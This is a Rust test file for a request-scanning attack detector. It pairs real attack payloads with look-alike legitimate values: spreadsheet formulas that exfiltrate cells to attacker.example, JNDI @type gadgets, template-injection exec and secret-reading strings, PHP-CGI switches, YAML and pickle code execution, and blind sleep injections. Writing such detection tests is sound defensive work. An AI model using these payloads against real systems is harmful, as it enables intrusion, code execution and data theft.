//! Java type gadgets, Python pickles, spreadsheet formulas, blind shell delays, framework
//! exploit probes and template tags, each next to the look-alike legitimate values that
//! motivated its shape (stack traces, JSON-LD types, base64 tokens, everyday formulas,
//! prose about sleep, model-binding names, e-mail and CI templates).

use rampart_detect::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};

fn scan(name: &str, kind: FieldKind, value: &str) -> Findings {
    let mut budget = Budget::default();
    Engine::builtin().inspect(
        [Field::new(
            Location::new("json", name),
            kind,
            value.as_bytes(),
        )],
        &Policy::default(),
        &mut budget,
    )
}

/// Each attack must be blocked by a rule of `class`; each legitimate value must pass.
fn table(class: &str, name: &str, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
    let threshold = Policy::default().threshold();
    for a in attacks {
        let f = scan(name, kind, a);
        assert!(
            f.blocks(threshold) && f.hits.iter().any(|h| h.class == class),
            "{class}: missed {kind} {name} {a:?}: {:?}",
            f.hits
        );
    }
    for l in legit {
        let f = scan(name, kind, l);
        assert!(
            !f.blocks(threshold),
            "{class}: flagged {kind} {name} {l:?}: {:?}",
            f.hits
        );
    }
}

const B: FieldKind = FieldKind::BodyValue;
const Q: FieldKind = FieldKind::QueryValue;

#[test]
fn java_classes_of_exploits_but_not_exceptions_in_stack_traces() {
    for kind in [Q, B] {
        table(
            "java",
            "/v",
            kind,
            &[
                "java.lang.Runtime",
                "new java.io.FileOutputStream('/tmp/x')",
                "java.lang.ProcessBuilder",
                "java.lang.Class.forName",
                "java.net.URLClassLoader",
                "T(java.lang.Thread).sleep(5000)",
                "java.util.concurrent.Executors",
            ],
            &[
                "java.lang.NullPointerException at com.example.OrderService.create(OrderService.java:88)",
                "at java.lang.Thread.run(Thread.java:833)",
                "java.io.IOException: Broken pipe",
                "java.net.SocketTimeoutException: Read timed out",
                "java.util.concurrent.TimeoutException",
                "java.lang.OutOfMemoryError: Java heap space",
                "java.util.zip.ZipException: invalid entry size",
            ],
        );
    }
}

#[test]
fn polymorphic_type_keys_naming_jvm_classes() {
    // As JSON text inside a value (a string field, a query parameter).
    table(
        "java",
        "/v",
        Q,
        &[
            r#"{"@type":"java.net.Inet4Address","val":"x.dnslog.example"}"#,
            r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}"#,
            r#"{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}"#,
            r#"{"@class": "ch.qos.logback.core.db.DriverManagerConnectionSource"}"#,
            r#"{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory"}"#,
        ],
        &[
            r#"{"@type":"Person","name":"Ann"}"#,
            r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"1s"}"#,
            r#"{"@type":"https://schema.org/Product"}"#,
            r#"{"@context":"https://schema.org","@type":"Organization"}"#,
        ],
    );
    // As the value of a parsed @type key.
    table(
        "java",
        "/a/@type",
        B,
        &[
            "com.zaxxer.hikari.HikariConfig",
            "[com.sun.rowset.JdbcRowSetImpl",
            "java.lang.AutoCloseable",
        ],
        &[
            "Person",
            "type.googleapis.com/google.rpc.ErrorInfo",
            "Event",
        ],
    );
    // The same class names under other keys are no type key.
    table(
        "java",
        "/a/package",
        B,
        &[],
        &["com.zaxxer.hikari", "org.apache.kafka", "ch.qos.logback"],
    );
}

#[test]
fn spreadsheet_formulas_that_run_programs_or_send_cells_away() {
    table(
        "formula",
        "/v",
        B,
        &[
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+cmd|'/C notepad'!A0",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
            "=WEBSERVICE(CONCATENATE(\"http://attacker.example/?\",A1,B1))",
            "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")",
            "=IMAGE(\"http://attacker.example/p.png?d=\"&C3)",
            "id,comment\n1,\"=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1&B1,\"\"Open\"\")\"\n",
            "email,name\nx@example.com,=WEBSERVICE(\"http://attacker.example/c?d=\"&A1)\n",
        ],
        &[
            "=SUM(A1:A10)",
            "=AVERAGE(B2:B20)*1.2",
            "=HYPERLINK(\"https://example.com\",\"Docs\")",
            "=IMPORTXML(\"https://example.com\",\"//title\")",
            "='Sheet 1'!A1",
            "=IF(A1>0,\"yes\",\"no\")",
            "+1 (555) 010-9999",
            "-20% off | 'summer'! sale",
            "yes | 'no'!",
            "Pipe | 'quoted'! in prose",
            "id,link\n1,=HYPERLINK(\"https://example.com/docs\",\"Docs\")\n2,-- see notes\n",
        ],
    );
}

/// Exploit shapes of products and frameworks that scanners send (php-cgi's argv, ThinkPHP's
/// magic method, Groovy's Grape, ProxyShell, YAML tags and alias bombs), next to the
/// ordinary values of the same products.
#[test]
fn framework_exploit_shapes_but_not_the_frameworks_everyday_values() {
    for (class, attacks, legit) in [
        (
            "php",
            &["__construct", " __destruct", "__wakeup"][..],
            &["construct", "__init__.py", "_method", "PUT", "__typename"][..],
        ),
        (
            "java",
            &[
                "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://203.0.113.40/')\n@Grab(group='x', module='y', version='1')\nimport X",
                "@Grab('org.acme:payload:1.0')",
            ][..],
            &[
                "grab a coffee (or two)",
                "@grabber on the team",
                "GrabFood order #1123",
            ][..],
        ),
        (
            "ssrf",
            &[
                "Autodiscover/autodiscover.json?a=a@b.c",
                "/autodiscover/autodiscover.json?a=a@b.c/ews/exchange.asmx",
                "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/",
                "autodiscover.json%3F@x.example/owa/",
            ][..],
            &[
                "anna.schmidt@example.com",
                "/autodiscover/autodiscover.xml",
                "https://autodiscover.example.com/autodiscover/autodiscover.json?Email=jane@example.com",
            ][..],
        ),
        (
            "code",
            &[
                "!<tag:yaml.org,2002:python/object/apply:os.system> [\"touch /tmp/pwned\"]",
                "%TAG !py! tag:yaml.org,2002:python/\n---\n!py!object/apply:os.system [\"id\"]\n",
            ][..],
            &[
                "%YAML 1.2\n---\nkey: !!str value\n",
                "tags: [yaml, python, ruby]",
            ][..],
        ),
        (
            "dos",
            &[
                "a: &a [\"lol\", \"lol\"]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
                "- &x1\n  - *x0\n  - *x0\n  - *x0\n  - *x0\n  - *x0\n  - *x0\n",
            ][..],
            &[
                "defaults: &defaults\n  adapter: postgres\n  pool: 5\ndevelopment:\n  <<: *defaults\n",
                "steps: [*checkout, *install, *test]",
                "Smith & Sons [*new*, *sale*]",
            ][..],
        ),
    ] {
        table(class, "/v", B, attacks, legit);
    }
}

/// A PHP-CGI switch as the query (its only name) and the model-binding names of ASP.NET
/// and Spring forms, which bracket an index and then name a member.
#[test]
fn query_names_of_php_cgi_switches_and_model_binding() {
    let flagged =
        |name: &str| scan(name, FieldKind::QueryName, name).blocks(Policy::default().threshold());
    for attack in [
        "-s",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "foo[1]a",
        "a[0]b[1]",
    ] {
        assert!(flagged(attack), "{attack}");
    }
    for legit in [
        "Order.Items[0].Name",
        "items[0].qty",
        "user.phones[0].type",
        "order.lines[12].productId",
        "sort",
        "-",
        "x-request",
    ] {
        assert!(!flagged(legit), "{legit}");
    }
}

/// Template tags that do work, next to the ones e-mail, CI and shop templates are made of.
#[test]
fn template_tags_that_do_work_but_not_data_printed_by_templates() {
    table(
        "ssti",
        "/v",
        B,
        &[
            "<%= 7*7 %>",
            "<%= system('id') %>",
            "<%= `id` %>",
            "<%= File.read('/etc/passwd') %>",
            "<%= ENV %>",
            "<%= process.env.AWS_SECRET_ACCESS_KEY %>",
            "<% global.process.mainModule.require('child_process').execSync('id') %>",
            "Hi {{ .Name }}, {{ env \"DATABASE_URL\" }}",
            "{{7*7}}",
            "{{ 7 - 2 }}",
            "${{7*7}}",
            "${{ T(java.lang.Runtime).getRuntime().exec('id') }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{% set x = cycler.__init__.__globals__.os.popen('id').read() %}",
        ],
        &[
            "Hello <%= @user.first_name %>, your plan renews soon.",
            "<h1>Welcome, <%= user.firstName %>!</h1><% if (user.isTrial) { %><p>Your trial ends <%= trialEnd %>.</p><% } %>",
            "<%= @order.number -%>",
            "{{ .User.Name }}, your invoice {{ .Invoice.Number }} is due on {{ .Invoice.DueDate.Format \"2006-01-02\" }}.",
            "${{ runner.os }}-node-${{ hashFiles('**/package-lock.json') }}",
            "${{ contains(github.ref, 'release') }}",
        ],
    );
    table(
        "php",
        "/v",
        B,
        &["${system}('id')", "${'sys'.'tem'} ('id')"],
        &["Your total is ${order.total} (incl. ${order.tax} VAT)."],
    );
}

/// PHP directives set to attack (allow_url_include=On, an emptied disable_functions) next to
/// the hardening advice that names the same directives.
#[test]
fn php_directives_that_open_a_hole_but_not_the_ones_that_close_it() {
    table(
        "php",
        "/v",
        B,
        &[
            "-d allow_url_include=1",
            "allow_url_include=On",
            "allow_url_include = \"1\"",
            "disable_functions=",
            "disable_functions=\"\"",
            "auto_prepend_file=php://input",
        ],
        &[
            "Our php.ini sets allow_url_include=Off and disable_functions=exec,system,passthru",
            "register_globals = off",
            "allow_url_fopen=0",
            "disable_functions = exec,shell_exec",
        ],
    );
}

/// Names of files an attacker reads or plants, next to documents about them.
#[test]
fn secret_and_system_files_but_not_their_templates_or_documentation() {
    table(
        "lfi",
        "/v",
        Q,
        &[
            ".env",
            ".env.production",
            ".env.bak",
            "../.env.local",
            "c:/windows/win.ini",
            "win.ini",
        ],
        &[
            ".env.example",
            ".env.sample",
            "windows-setup-guide/win.ini-explained.md",
            "environment.md",
        ],
    );
}

/// Next.js sets x-middleware-subrequest only on its own requests; any value a client sends
/// there names the middleware to skip.
#[test]
fn next_middleware_subrequest_header_from_a_client() {
    let scan_header = |name: &str, value: &str| {
        Engine::builtin()
            .inspect(
                [Field::new(
                    Location::new("header", name),
                    FieldKind::HeaderValue,
                    value.as_bytes(),
                )],
                &Policy::default(),
                &mut Budget::default(),
            )
            .blocks(Policy::default().threshold())
    };
    assert!(scan_header("x-middleware-subrequest", "pages/_middleware"));
    assert!(scan_header("x-middleware-subrequest", "middleware"));
    assert!(!scan_header("x-request-source", "pages/_middleware"));
    assert!(!scan_header("x-feature", "middleware"));
}

#[test]
fn blind_delays_between_separators_and_traceback_frames() {
    table(
        "cmdi",
        "/v",
        Q,
        &[
            "x' || sleep 5 || '",
            "x'; sleep 5; '",
            "a; sleep 5; b",
            "|| sleep 5 ||",
            "$(sleep 5)",
            "; file /etc/passwd, line 1",
            "file /etc/passwd",
        ],
        &[
            "Sleep 5 | Work 8",
            "sleep 5 hours; then eat",
            "I sleep 5; she sleeps 9",
            "Sleep: 5; Work: 8",
            "File \"/usr/lib/python3.11/site-packages/requests/api.py\", line 59, in request",
            "File \"/app/main.py\", line 12, in <module>",
        ],
    );
}

#[test]
fn python_pickles_in_base64_or_protocol_zero() {
    for kind in [Q, B] {
        table(
            "code",
            "/v",
            kind,
            &[
                // protocol 2: posix.system('id')
                "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
                // protocol 4 (FRAME), as a cookie-style token after a name
                "session=gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                "cos\nsystem\n(S'id'\ntR.",
                "(cposix\nsystem\np0\n(S'sleep 5'\np1\ntp2\nRp3\n.",
                "csubprocess\ncheck_output\n(S'id'\ntR.",
            ],
            &[
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.gASVabcdefghijk",
                "dGhpcyBpcyBhIHRlc3QgZ0FKag==",
                "aGVsbG8gd29ybGQ=",
                "Chaos\nsystems are hard",
                "cos\nsin\ntan",
                "The gAJj prefix marks a protocol 2 pickle",
            ],
        );
    }
}
